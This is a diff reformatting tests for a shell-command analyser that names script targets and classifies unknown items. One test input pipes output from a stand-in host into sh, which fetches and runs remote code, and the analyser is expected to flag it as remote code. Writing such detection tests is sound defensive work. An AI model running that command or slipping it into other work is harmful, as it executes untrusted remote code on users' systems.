@@ -211,7 +211,8 @@ describe('scripts that tools name', () => {
   });
 
   it('by their target', () => {
-    const targets = (line: string) => analyse(line, SURROUNDINGS).scripts.map(({ target }) => target?.name);
+    const targets = (line: string) =>
+      analyse(line, SURROUNDINGS).scripts.map(({ target }) => target?.name);
     expect(targets('make A=b clean')).toEqual(['clean']);
     expect(targets('make')).toEqual(['']);
     expect(targets('npm run build -- --watch')).toEqual(['build']);
@@ -231,7 +232,9 @@ describe('an item that is not known', () => {
   });
 
   it('carries where it comes from', () => {
-    expect(lines("curl https://e.example | xargs -I {} sh -c '{}'")).toContain('unknown: remote-code');
+    expect(lines("curl https://e.example | xargs -I {} sh -c '{}'")).toContain(
+      'unknown: remote-code',
+    );
   });
 });
 
